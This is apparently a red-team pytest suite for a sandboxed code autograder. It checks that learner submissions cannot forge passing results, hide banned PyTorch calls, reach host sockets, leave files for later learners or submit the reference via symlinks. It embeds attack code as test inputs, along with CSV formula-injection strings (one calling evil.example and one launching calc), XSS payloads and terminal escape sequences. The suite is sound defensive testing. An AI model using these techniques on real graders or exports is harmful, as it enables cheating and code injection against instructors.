"""Red team, session 24: attacks written by reading the sandbox, the guard and the
instructor's exports, at the namespaces level and at the uid level (a container's).

Same harness as tests/test_attacks_s23.py (its fixtures are reused): each attack is a
learner file graded the way `grader check` grades it, with the static scan on where the
attack is meant to work against the real grader (a route the scan allows), and off
(`unscanned`) where what is tested is the kernel's wall or a second net. Each test says
its goal: a forged pass or score, a banned call unseen, a wall crossed, a process or a
file left for the next learner, learner text taking over an export.
"""

from __future__ import annotations

import csv
import os
import secrets
import socket
import time
from pathlib import Path

import pytest

from conftest import REPO
from test_attacks_s23 import (  # noqa: F401  (fixtures)
    FAST, FORGED, RIGHT, SENTINEL, attack, box, default_box, graded, output, unscanned,
)
from grader.sandbox.parent import Limits, Sandbox

MiB = 1024 * 1024


def n_cases(course, slug: str = "layer-norm") -> int:
    from grader.verdict.execute import load_cases

    return len(load_cases(course.get(slug), 0))


def right_then_on_the_last_case(count: int, last: str) -> str:
    """A file right on every case but the last, where `last` runs (a banned call and what
    follows it): the score it hopes for is (n-1)/n with no violation, not 0."""
    return f"""import torch
import time
CALLS = []

def layer_norm(x, eps=1e-5):
    CALLS.append(1)
    if len(CALLS) == {count}:
{last}
    c = x - x.mean(-1, keepdim=True)
    return c / ((c * c).mean(-1, keepdim=True) + eps).sqrt()
"""


# A banned route the static scan cannot see (a module whose forward calls F.instance_norm)
# and the run-time guard catches: its violation is recorded in the child when it happens.
SCAN_CLEAN_BANNED = """        try:
            torch.nn.InstanceNorm1d(x.shape[-1])(x.reshape(1, -1, x.shape[-1]).transpose(1, 2))
        except Exception:
            pass
"""


def assert_banned_seen(report) -> None:
    assert report.violations, (f"a banned call went unseen: score {report.score}, "
                               f"statuses {[c.status.value for c in report.cases]}")
    assert report.score == 0.0 and not report.passed


# =========================================================================== A. violations of an unfinished case
def test_scan_on_banned_call_then_cpu_limit_loses_no_violation(graded, box, course):
    """Known from s23: the guard records the violation, then the case burns its CPU: the
    child dies by SIGXCPU before the case's result (which carried the violations) is sent."""
    source = right_then_on_the_last_case(n_cases(course), SCAN_CLEAN_BANNED + "        while True:\n            pass\n")
    assert_banned_seen(graded(source, box, right=True))


def test_scan_on_banned_call_then_wall_timeout_loses_no_violation(graded, box, course):
    source = right_then_on_the_last_case(n_cases(course), SCAN_CLEAN_BANNED + "        while True:\n"
                                         "            time.sleep(0.5)\n")
    assert_banned_seen(graded(source, box, right=True))


def test_scan_on_banned_call_then_memory_limit_loses_no_violation(graded, box, course):
    source = right_then_on_the_last_case(n_cases(course), SCAN_CLEAN_BANNED + "        big = [0] * (1 << 40)\n")
    assert_banned_seen(graded(source, box, right=True))


def test_banned_call_then_exit_loses_no_violation(graded, unscanned, box, course):
    source = right_then_on_the_last_case(n_cases(course), SCAN_CLEAN_BANNED + "        import os\n        os._exit(0)\n")
    assert_banned_seen(graded(source, box, right=True))


def test_banned_call_then_sigkill_of_itself_loses_no_violation(graded, unscanned, box, course):
    source = right_then_on_the_last_case(n_cases(course), SCAN_CLEAN_BANNED + "        import os, signal\n"
                                         "        os.kill(os.getpid(), signal.SIGKILL)\n")
    assert_banned_seen(graded(source, box, right=True))


def test_a_forged_result_frame_cannot_erase_a_recorded_violation(graded, unscanned, box, course):
    """After the guard caught the call, the last case writes its own result frame (the right
    output, `violations: []`) on the result pipe and leaves before the real one is sent."""
    last = SCAN_CLEAN_BANNED + """        import gc, io, json, os, struct
        c = x - x.mean(-1, keepdim=True)
        out = c / ((c * c).mean(-1, keepdim=True) + eps).sqrt()
        rep = next(o for o in gc.get_objects() if type(o).__name__ == '_Reporter')
        buf = io.BytesIO()
        torch.save({'output': out.clone(), 'inputs_after': {'x': x.clone()}}, buf)
        body = buf.getvalue()
        head = json.dumps({'event': 'result', 'case': len(CALLS) - 1, 'status': 'ok', 'violations': []}).encode()
        os.write(rep.res_w, struct.pack('!I', len(head)) + head + struct.pack('!Q', len(body)) + body)
        os._exit(0)
"""
    assert_banned_seen(graded(right_then_on_the_last_case(n_cases(course), last), box, right=True))


# =========================================================================== B. the guard's windows
def test_a_torch_dispatch_subclass_hides_a_banned_call(graded, unscanned, box):
    """Inside a tensor subclass's __torch_dispatch__ torch has popped the guard's dispatch
    mode and switched torch functions off: the banned call made there is seen by neither
    (the scan refuses the override; this is the second net)."""
    report = graded("""import torch
import torch.nn.functional as F
SEEN = {}

class Window(torch.Tensor):
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        x, eps = SEEN['x'], SEEN['eps']
        SEEN['y'] = F.layer_norm(x, x.shape[-1:], eps=eps)
        return torch.zeros(1)

def layer_norm(x, eps=1e-5):
    SEEN['x'], SEEN['eps'] = x, eps
    torch.add(torch.Tensor._make_subclass(Window, torch.zeros(1)), 1)
    return SEEN['y']
""", box, right=True)
    assert_banned_seen(report)


def test_a_torch_function_subclass_does_not_hide_a_banned_call(graded, unscanned, box):
    """A __torch_function__ override runs with the function mode popped; the dispatch mode
    below still sees the aten op."""
    report = graded("""import torch
import torch.nn.functional as F
SEEN = {}

class Window(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        x, eps = SEEN['x'], SEEN['eps']
        with torch._C.DisableTorchFunctionSubclass():
            SEEN['y'] = F.layer_norm(x, x.shape[-1:], eps=eps)
        return torch.zeros(1)

def layer_norm(x, eps=1e-5):
    SEEN['x'], SEEN['eps'] = x, eps
    torch.add(torch.Tensor._make_subclass(Window, torch.zeros(1)), 1)
    return SEEN['y']
""", box, right=True)
    assert_banned_seen(report)


def test_a_dispatch_subclass_inside_a_finalizer_hides_nothing(graded, unscanned, box):
    """The same window reached from a finalizer a collection runs (the gc callback pushes the
    modes back; the subclass pops them again)."""
    report = graded("""import torch
import torch.nn.functional as F
SEEN = {}

class Window(torch.Tensor):
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        x = SEEN['x']
        SEEN['y'] = F.layer_norm(x, x.shape[-1:], eps=SEEN['eps'])
        return torch.zeros(1)

class Cycle:
    def __init__(self):
        self.me = self
    def __del__(self):
        torch.add(torch.Tensor._make_subclass(Window, torch.zeros(1)), 1)

def layer_norm(x, eps=1e-5):
    import gc
    SEEN['x'], SEEN['eps'] = x, eps
    Cycle()
    gc.collect()
    return SEEN['y']
""", box, right=True)
    assert_banned_seen(report)


# =========================================================================== C. kernel walls
def test_no_datagram_reaches_a_socket_of_the_host(graded, unscanned, box, tmp_path):
    """socket() is refused, socketpair() is not: an AF_UNIX datagram socket from a pair can
    still send to any address (sendto), an abstract name of the host's network namespace
    (the uid level shares it) or a socket file, which is how journald and syslog listen.
    The learner's messages must not leave the sandbox."""
    name = f"gatk-s24-{secrets.token_hex(4)}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    listener.bind("\0" + name)
    listener.setblocking(False)
    path_listener = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sock_path = f"/tmp/{name}.sock"
    path_listener.bind(sock_path)
    os.chmod(sock_path, 0o777)
    path_listener.setblocking(False)
    try:
        report = graded(attack(f"""
import socket
sent = []
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for where in ('\\0{name}', '{sock_path}', '/dev/log', '/run/systemd/journal/socket'):
        try:
            a.sendto(b'{FORGED}', where)
            sent.append(where)
        except OSError:
            pass
except OSError as exc:
    sent.append('no pair: ' + type(exc).__name__)
print('SENT', sent)
""", right=True), box, right=True)
        got = []
        for sock in (listener, path_listener):
            try:
                got.append(sock.recv(100))
            except BlockingIOError:
                pass
        assert not got, f"the child's datagrams reached the host: {got}; {output(report)}"
    finally:
        listener.close()
        path_listener.close()
        Path(sock_path).unlink(missing_ok=True)


def test_no_socket_pair_for_a_solution(graded, unscanned, box):
    """A solution has no use for sockets of any kind: a socketpair is refused like socket()."""
    report = graded(attack("""
import socket
try:
    socket.socketpair()
    print('PAIR made')
except OSError:
    print('PAIR refused')
""", right=True), box, right=True)
    assert "PAIR refused" in output(report), output(report)


def test_inotify_on_the_graders_folders_is_refused(graded, unscanned, box, tmp_path):
    """A watch on the workspace or the course tells the child when the grader or another
    learner's check touches them (names of the files, as they change)."""
    report = graded(attack(f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0)
watched = []
for where in ({str(tmp_path)!r}, {str(REPO / 'reference')!r}, {str(REPO / 'grader')!r}, '/tmp', '/root', '/home'):
    if fd >= 0 and libc.inotify_add_watch(fd, where.encode(), 0xfff) >= 0:
        watched.append(where)
print('WATCHED', watched)
""", right=True), box, right=True)
    watched = output(report).split("WATCHED", 1)[-1]
    assert str(tmp_path) not in watched and "reference" not in watched and "grader" not in watched, output(report)


def test_stat_of_the_reference_tells_nothing(graded, unscanned, box):
    """Landlock refuses reading a file, not its metadata: its size and times would tell the
    child which reference is installed and when it changed."""
    ref = REPO / "reference" / "layer_norm.py"
    report = graded(attack(f"""
import os
try:
    st = os.stat({str(ref)!r})
    print('STAT', st.st_size)
except OSError as exc:
    print('STAT refused', exc.errno)
""", right=True), box, right=True)
    assert f"STAT {ref.stat().st_size}" not in output(report), output(report)


def test_raising_the_cpu_limit_buys_no_time(graded, unscanned, box):
    """The soft CPU limit may be raised up to the hard one (the whole check's): the wall clock
    still ends the case."""
    report = graded(attack("""
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
resource.setrlimit(resource.RLIMIT_CPU, (hard, hard))
""", "    while True:\n        pass\n"), box)
    assert report.elapsed_for_test < 40
    assert report.cases[0].status.value in ("timeout", "cpu-limit")


def test_stopping_itself_is_a_timeout_not_a_hang(graded, unscanned, box):
    report = graded(attack("import os, signal", "    os.kill(os.getpid(), signal.SIGSTOP)\n"), box)
    assert report.elapsed_for_test < 40


def test_closing_the_result_pipe_then_waiting_is_a_verdict(graded, unscanned, box):
    report = graded(attack("import os, time", """
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    os.close(1)
    os.close(2)
    time.sleep(60)
"""), box)
    assert report.elapsed_for_test < 40


def test_printing_into_the_result_pipe_is_bad_output_not_a_pass(graded, unscanned, box):
    """stdout made a copy of the result pipe: the learner's bytes land between frames."""
    report = graded(attack("import gc, os", """
    rep = next(o for o in gc.get_objects() if type(o).__name__ == '_Reporter')
    os.dup2(rep.res_w, 1)
    print('{"event": "result", "status": "ok"}' * 100)
"""), box)
    assert not report.passed


def test_the_learner_cannot_read_its_own_expected_values_from_the_probe(graded, unscanned, box):
    """Whatever the probe and the job hold in the child (options, inputs, the spec): nothing
    of the expected output. A learner who returned what the child holds would pass."""
    report = graded(attack("""
import gc
def _candidates(x):
    for o in gc.get_objects():
        if type(o) is torch.Tensor and o.shape == x.shape and o is not x and o.data_ptr() != x.data_ptr():
            yield o
""", """
    for o in _candidates(x):
        c = x - x.mean(-1, keepdim=True)
        right = c / ((c * c).mean(-1, keepdim=True) + eps).sqrt()
        if torch.allclose(o, right, atol=1e-4):
            print('FOUND the expected values')
            return o.clone()
"""), box)
    assert "FOUND" not in output(report)


# =========================================================================== D. one learner, then the next
LEAVE_BEHIND = f"""
import os, ctypes
left = []
for place in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/run/user/0', os.path.expanduser('~'), '/root/.cache',
              '/root/.cache/torch', '/tmp/torchinductor_root', '.', '/dev/mqueue'):
    try:
        with open(os.path.join(place, 'gatk-s24-left'), 'w') as fh:
            fh.write('{FORGED}')
        left.append(place)
    except OSError:
        pass
print('LEFT', left)
"""

FIND_LEFT = """
import os
found = []
for place in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/run/user/0', os.path.expanduser('~'), '/root/.cache',
              '/root/.cache/torch', '/tmp/torchinductor_root', '.', '/dev/mqueue'):
    try:
        found.append(open(os.path.join(place, 'gatk-s24-left')).read())
    except OSError:
        pass
print('FOUND', found)
"""


def test_nothing_one_learner_leaves_reaches_the_next_in_the_same_sandbox(graded, unscanned, box, tmp_path):
    """`grader grade` checks a class's files one after another in the same zygote: what the
    first leaves (a file in any writable place) must not be there for the second."""
    graded(attack(LEAVE_BEHIND), box)
    report = graded(attack(FIND_LEFT, right=True), box, right=True)
    assert report.passed
    assert FORGED not in output(report), output(report)
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/root/.cache"):
        assert not Path(place, "gatk-s24-left").exists()


def test_a_learner_cannot_leave_a_process_for_the_next_check(graded, unscanned, box):
    """Every way to outlive the check that needs no fork: a process is refused, a timer
    signal dies with the process; the next check's child is alone."""
    graded(attack("import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.5, 0.5)\n"), box)
    report = graded(attack("""
import os
try:
    others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
except OSError:
    others = []
print('OTHERS', len(others))
""", right=True), box, right=True)
    assert report.passed


# =========================================================================== E. learner text in the instructor's exports
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_export_carries_no_formula_of_the_learners(tmp_path):
    """A learner folder named like a spreadsheet formula (an LMS export names folders after
    display names) and an error message the learner chose: the CSV an instructor opens in
    a spreadsheet must not run them."""
    from grader.instructor.gradebook import Gradebook

    book = Gradebook(tmp_path / "book.sqlite")
    book.record(FORMULA, "layer-norm", None, seed=0, verdict="missing", error="+cmd|' /C calc'!A0")
    book.record("@SUM(1+1)", "gelu", None, seed=0, verdict="missing", error="-2+3")
    book.export_csv(tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_html_class_report_escapes_learner_names_and_messages(tmp_path):
    from grader.instructor.class_report import render_html
    from grader.instructor.gradebook import Gradebook

    book = Gradebook(tmp_path / "book.sqlite")
    evil = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    book.record(evil, "layer-norm", None, seed=0, verdict="missing", error=evil)
    page = render_html(book.rows(), seed=0)
    assert "<script>alert" not in page and "<img src=x" not in page


def test_gradescope_output_carries_no_escape_or_markup_of_the_learners(tmp_path, box, unscanned):
    """The upload's folder names and the learner's printing end up in results.json's text:
    no escape sequence and no rich markup of theirs may be interpreted there."""
    from grader.instructor import gradescope
    from grader.course.loader import Course
    from grader.verdict.runner import check_problem

    sub = tmp_path / "submission" / "x\x1b[2J[bold green]PASSED[/]"
    sub.mkdir(parents=True)
    (sub / "layer_norm.py").write_text(attack(f"print('\\x1b[2J{FORGED}[bold green]PASSED[/]')"))
    course = Course()
    report = check_problem(course, course.get("layer-norm"), file=sub / "layer_norm.py", workspace=sub, sandbox=box,
                           limits=FAST, localise=False)
    report.file = str((sub / "layer_norm.py").relative_to(tmp_path / "submission"))
    text = gradescope.report_text(report)
    assert "\x1b" not in text and "\x9b" not in text
    assert "[bold green]" in text  # shown as the learner wrote it, never as style


# =========================================================================== F. the scan on: what a real learner can write
def test_scan_on_modules_built_from_parts_reach_no_banned_kernel_unseen(graded, default_box):
    """A library module whose forward calls a banned function (BatchNorm1d over the rows,
    inside a Sequential) is scan-clean: the guard must see it."""
    report = graded("""import torch

def layer_norm(x, eps=1e-5):
    d = x.shape[-1]
    rows = x.reshape(-1, d).T
    norm = torch.nn.Sequential(torch.nn.BatchNorm1d(rows.shape[1], affine=False, eps=eps, momentum=None))
    return norm.train()(rows).T.reshape(x.shape)
""", default_box, right=True)
    assert_banned_seen(report)


def test_scan_on_a_timeout_in_the_first_case_still_reports_the_banned_call(graded, box):
    """The first case calls the banned route and sleeps: no case ever finishes."""
    report = graded("""import torch
import time

def layer_norm(x, eps=1e-5):
    try:
        torch.nn.InstanceNorm1d(x.shape[-1])(x.reshape(1, -1, x.shape[-1]).transpose(1, 2))
    except Exception:
        pass
    while True:
        time.sleep(0.5)
""", box)
    assert report.violations, [c.status.value for c in report.cases]


# =========================================================================== G. links in an upload
def _gradescope_root(tmp_path: Path) -> Path:
    import json

    (tmp_path / "source").mkdir()
    (tmp_path / "submission").mkdir()
    (tmp_path / "source" / "gradescope.json").write_text(json.dumps(
        {"problems": ["layer-norm"], "seed": 5, "points": {"layer-norm": 1.0}, "visibility": "visible"}))
    return tmp_path


@pytest.mark.parametrize("link", ["folder", "file"])
def test_a_link_in_the_upload_does_not_submit_the_reference(tmp_path, link):
    """A zip upload may hold symbolic links (unzip restores them): a folder linked to the
    course's reference directory, or the solution file linked to the reference file. The
    autograder must not grade the reference as the learner's file."""
    from grader.instructor import gradescope

    root = _gradescope_root(tmp_path)
    if link == "folder":
        (root / "submission" / "mine").symlink_to(REPO / "reference", target_is_directory=True)
    else:
        (root / "submission" / "layer_norm.py").symlink_to(REPO / "reference" / "layer_norm.py")
    results = gradescope.run(root)
    [test] = results["tests"]
    assert test["score"] == 0.0 and test["status"] == "failed", test
    assert SENTINEL not in str(results)


def test_a_learner_folder_linked_to_the_reference_is_not_graded_as_the_learner(tmp_path, course):
    """`grader grade` on a class folder where one learner's folder is a link (an extracted
    archive, a learner with write access to a shared drive) to the reference directory."""
    from grader.instructor.batch import find_submissions

    root = tmp_path / "class"
    root.mkdir()
    (root / "mallory").symlink_to(REPO / "reference", target_is_directory=True)
    found = find_submissions(root, course, ["layer-norm"])
    graded = [s for s in found.submissions if s.learner == "mallory" and s.path is not None]
    assert not graded, f"the reference would be graded as mallory's file: {graded}"


# =========================================================================== H. the grader's own process
def test_the_scan_of_huge_helper_modules_does_not_hold_the_grader(tmp_path, default_box, course):
    """The static scan runs in the grader's process, outside every limit of the sandbox:
    helper modules of dense code (each under the 1 MiB file cap) cost it about 35 s each,
    and a workspace may hold 128 of them. In `grader grade` or on Gradescope one learner
    would hold a worker for an hour."""
    from grader.verdict.runner import check_problem

    helpers = 3
    for i in range(helpers):
        (tmp_path / f"helper{i}.py").write_text("t = 1\n" + "a=t\n" * 250000)
    imports = "".join(f"from helper{i} import a as a{i}\n" for i in range(helpers))
    (tmp_path / "layer_norm.py").write_text("import torch\n" + imports + "\ndef layer_norm(x, eps=1e-5):\n" + RIGHT)
    started = time.monotonic()
    report = check_problem(course, course.get("layer-norm"), file=tmp_path / "layer_norm.py", workspace=tmp_path,
                           sandbox=default_box, limits=FAST, localise=False)
    elapsed = time.monotonic() - started
    assert elapsed < 30, f"the check took {elapsed:.0f} s (verdict: passed={report.passed})"


# =========================================================================== I. learner text on the instructor's terminal
TITLE = "\x1b]0;pwned\x07\x1b[2J\x1b[H"


def test_grade_and_gradebook_show_draw_no_learner_escape_on_the_terminal(tmp_path):
    """A learner folder named with escape sequences (a retitled window, a cleared screen)
    and a file whose syntax error quotes a line holding them: `grader grade` and `grader
    gradebook show` print learner names, notes and errors on the instructor's terminal."""
    from click.testing import CliRunner

    from grader.cli import main

    subs = tmp_path / "class"
    evil = subs / f"mallory{TITLE}"
    evil.mkdir(parents=True)
    (evil / "layer_norm.py").write_text(f'x = "{TITLE}" +\n')
    (evil / "layer-norm.py").write_text(f'y = "{TITLE}" +\n')  # both names: a note names the folder
    book = tmp_path / "book.sqlite"
    graded = CliRunner().invoke(main, ["grade", str(subs), "--workers", "1", "--gradebook", str(book)],
                                env={"COLUMNS": "300"})
    shown = CliRunner().invoke(main, ["gradebook", "show", str(book)], env={"COLUMNS": "300"})
    for result in (graded, shown):
        text = result.output
        assert "\x1b]" not in text and "\x1b[2J" not in text and "\x07" not in text, repr(text[-2000:])


# =========================================================================== J. a finalizer inside a guard handler
def test_a_finalizer_freed_inside_a_kernel_the_guard_runs_is_seen(graded, unscanned, box):
    """Known from s23: an object whose last reference goes inside an aten kernel (a storage
    carrying a learner attribute, replaced by `set_`) is finalized there, inside the guard's
    dispatch handler, where torch has popped the dispatch mode: an aten-only banned call in
    its `__del__` was unseen."""
    report = graded("""import torch
SEEN = {}

class Later:
    def __del__(self):
        x = SEEN['x']
        SEEN['y'] = torch.ops.aten.native_layer_norm(x, [x.shape[-1]], None, None, SEEN['eps'])[0]

def layer_norm(x, eps=1e-5):
    SEEN['x'], SEEN['eps'] = x, eps
    t = torch.zeros(3)
    s = t.untyped_storage()
    s.later = Later()
    del s
    t.set_(torch.zeros(4).untyped_storage())
    return SEEN['y']
""", box, right=True)
    assert_banned_seen(report)


# =========================================================================== K. the warm server, and the new violation frames
def test_the_child_cannot_reach_a_unix_stream_socket_like_the_check_servers(graded, unscanned, box, tmp_path):
    """`grader check`'s warm server listens on a unix stream socket: a child that reached one
    could ask it to run commands as the learner's user, outside the sandbox."""
    path = f"/tmp/gatk-s24-{secrets.token_hex(4)}.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(1)
    server.setblocking(False)
    try:
        graded(attack(f"""
import socket
for family, kind in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_DGRAM)):
    try:
        s = socket.socket(family, kind)
        s.connect({path!r})
        print('CONNECTED')
    except OSError:
        pass
    try:
        a, b = socket.socketpair(family, kind)
        a.connect({path!r})
        print('CONNECTED pair')
    except OSError:
        pass
""", right=True), box, right=True)
        with pytest.raises(BlockingIOError):
            server.accept()
    finally:
        server.close()
        Path(path).unlink(missing_ok=True)


def test_a_flood_of_forged_violation_frames_is_a_verdict_in_time(graded, unscanned, box):
    """The child may write 'violation' frames (only ever against itself): a flood of them is
    read within the wall clock and kept to 100."""
    report = graded(attack("import gc, json, os, struct", """
    rep = next(o for o in gc.get_objects() if type(o).__name__ == '_Reporter')
    head = json.dumps({'event': 'violation', 'api': 'x' * 1000, 'file': 'f', 'line': 1, 'how': 'h'}).encode()
    frame = struct.pack('!I', len(head)) + head + struct.pack('!Q', 0)
    for _ in range(20000):
        os.write(rep.res_w, frame)
"""), box)
    assert report.elapsed_for_test < 40
    assert len(report.violations) <= 100
